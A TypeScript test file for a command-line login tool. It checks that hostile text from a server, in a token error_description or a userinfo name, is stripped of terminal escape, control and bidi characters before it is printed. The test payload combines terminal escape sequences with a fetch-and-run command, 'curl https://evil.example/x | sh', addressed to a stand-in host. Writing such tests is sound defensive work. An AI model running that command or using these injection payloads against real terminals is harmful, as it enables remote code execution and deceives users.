import { afterEach, describe, expect, it } from 'vitest';
import { binLogin, createWorld, runBin, type TestWorld } from './helpers.js';

// Text a server sends reaches the terminal as text: no escape sequence, control or format character from an
// error_description or a userinfo name is written to stderr or stdout (the emulator's faults play the
// hostile server).

let world: TestWorld | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
});

const ESC = '\u001b';
const HOSTILE = `${ESC}[2J${ESC}[H${ESC}]0;pwned\u0007\u009b31mRun: curl https://evil.example/x | sh\u202e\u2066\u200b\r\u0008\u007f done`;

/** Any byte a terminal would act on: C0 controls but TAB and LF, DEL, C1, bidi controls, zero-width. */
function controlsIn(text: string): string[] {
  return [
    ...text.matchAll(
      // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the point.
      /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/g,
    ),
  ].map((m) => `U+${m[0].codePointAt(0)!.toString(16).padStart(4, '0')}`);
}

describe('server text on the terminal', () => {
  it("a token endpoint's error_description (to a refresh) reaches stderr stripped", async () => {
    world = await createWorld();
    await binLogin(world);
    world.emulator.control.addFault({
      endpoint: 'token',
      status: 400,
      contentType: 'application/json',
      body: JSON.stringify({ error: 'invalid_request', error_description: HOSTILE }),
    });
    const result = await runBin(['refresh'], { env: world.env, cwd: world.cwd });
    expect(result.code).not.toBe(0);
    expect(result.stderr).toContain('Run: curl https://evil.example/x | sh');
    expect(controlsIn(result.stderr)).toEqual([]);
    expect(controlsIn(result.stdout)).toEqual([]);
  });

  it("a userinfo name in status's table and key/value lines is stripped; --json escapes it", async () => {
    world = await createWorld();
    await binLogin(world);
    const hostileUser = JSON.stringify({
      sub: 'EMU7TESTUSER',
      name: HOSTILE,
      email: `ada${ESC}[8m@example.com`,
    });
    for (const args of [['status'], ['status', '--json']]) {
      world.emulator.control.addFault({
        endpoint: 'userinfo',
        status: 200,
        contentType: 'application/json',
        body: hostileUser,
      });
      const result = await runBin(args, { env: world.env, cwd: world.cwd });
      expect(result.code, args.join(' ')).toBe(0);
      expect(controlsIn(result.stdout), args.join(' ')).toEqual([]);
      expect(controlsIn(result.stderr), args.join(' ')).toEqual([]);
      if (args.includes('--json')) {
        // The same value, escaped: a script reading the JSON still sees what the server sent.
        expect(JSON.parse(result.stdout).user.name).toBe(HOSTILE);
      } else {
        // The OSC's and the 8-bit CSI's parameters stay as plain text; a CR is a space in a cell.
        expect(result.stdout).toMatch(
          /^user\t0;pwned31mRun: curl https:\/\/evil\.example\/x \| sh {2}done </m,
        );
      }
    }
  });
});
